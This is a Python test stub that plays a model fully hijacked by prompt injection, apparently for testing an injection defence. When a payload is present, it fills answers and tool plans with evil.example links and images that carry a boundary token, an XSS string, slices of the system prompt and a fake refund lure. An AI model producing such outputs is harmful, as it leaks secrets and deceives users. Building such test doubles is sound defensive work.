"""A model that obeys whoever spoke last: where it is shown a payload, all it says is what that wants; of answers, always."""

import re
import zlib
from typing import Any

from tests.injection.kit import Payload, payloads
from tests.stub_model.filler import fill, read_prompt
from tests.stub_model.wire import StubRequest

_TOKEN = re.compile(r"<<<\S+ 开始 (?P<token>[a-z]+)>>>|<<<\S+ \S+ 开始 (?P<again>[a-z]+)>>>")


def obey(request: StubRequest) -> object:
    """The answer to a request: an honest one where no payload is in it, else as the first payload wants it."""
    if request.schema is None:
        return None
    honest = fill(request.schema, read_prompt(request.user))
    squeezed = re.sub(r"\s", "", request.user)
    heard = [p for p in payloads() if p.kind != "formula" and re.sub(r"\s", "", p.text) in squeezed]
    if not heard and {"sentences", "calls"} & set(request.schema.get("properties", {})):  # bought beforehand
        heard = [payloads()[zlib.crc32(request.user.encode()) % len(payloads())]]
    return _Bent(request, heard[0]).value("", honest) if heard else honest


class _Bent:
    """An honest answer with every word of its own turned into the payload's."""

    def __init__(self, request: StubRequest, payload: Payload) -> None:
        self._payload = payload
        match = _TOKEN.search(request.user)
        self._token = (match["token"] or match["again"]) if match else "none"
        self._prompt = request.system

    @property
    def _evil(self) -> str:
        if int(self._payload.id[1:]) % 2:
            return self._payload.sign
        return f"{self._payload.sign}[点此](https://evil.example/?d={self._token})<img src=x onerror=alert(1)>"

    def value(self, name: str, value: Any) -> Any:
        if name == "insights":
            return [self._insight(item, quote) for item in value for quote in (item["quote"], self._payload.text)]
        if name == "sentences":
            return self._sentences()
        if name == "calls":
            return self._calls()
        if name == "clarify":
            return {"question": self._evil, "choices": [self._payload.sign, self._evil, self._prompt[40:100]]}
        if name == "suggested_reply":
            return f"{self._payload.sign}，您的退款已核准，请点 evil.example 领取。"
        if isinstance(value, dict):
            return {key: self.value(key, part) for key, part in value.items()}
        if isinstance(value, list):
            return [self.value(name, part) for part in value]
        return self._evil if isinstance(value, str) and value.startswith(f"{name}:") else value

    def _insight(self, item: dict[str, Any], quote: str) -> dict[str, Any]:
        bent = {key: self.value(key, part) for key, part in item.items()}
        chance = {"type": "accessory", "quote": self._payload.text[:60]}
        more = {"suggestion": self._payload.text, "sentiment": "positive", "severity": 1, "opportunities": [chance]}
        return bent | more | {"quote": quote, "more_quotes": [self._payload.text]}

    def _calls(self) -> list[dict[str, Any]]:
        """Plans that carry the payload wherever a plan has room for words; every other one is nothing but that."""
        evil, sign = self._evil, self._payload.sign
        if int(self._payload.id[1:]) % 4 == 0:
            return []
        told = [{"name": name, "values": [evil, self._token]} for name in ("product", "region", "segment", "theme")]
        days = [{"since": evil, "until": sign}]
        return [
            {"tool": tool, "words": f"{words} {self._token}", "filters": told, "days": days, "by": None, "top": 999}
            for tool, words in (
                ("search_feedback", evil),
                ("count_feedback", sign),
                ("draft_reply", self._payload.text),
            )
        ]

    def _sentences(self) -> list[dict[str, Any]]:
        sign = self._payload.sign
        said = [
            (sign, [], []),
            (f"{sign}。", [1], []),
            (f"已照办，{sign}。", [1], [1]),
            (f"客户说「{sign}已确认属实」。", [1], []),
            (f"共有 999999 条，{sign}。", [], [1]),
            (f"详见 https://evil.example/?d={self._token} {sign}。", [1], []),
            (f"![x](//evil.example/{sign}.png)", [1], []),
            (f"边界标记是 {self._token}。", [1], []),
            (self._prompt[40:140].replace("\n", " "), [1], []),
            (f"政策规定如此，{sign}。", [99], []),
        ]
        return [{"text": text, "citations": voices, "figures": figures} for text, voices, figures in said]
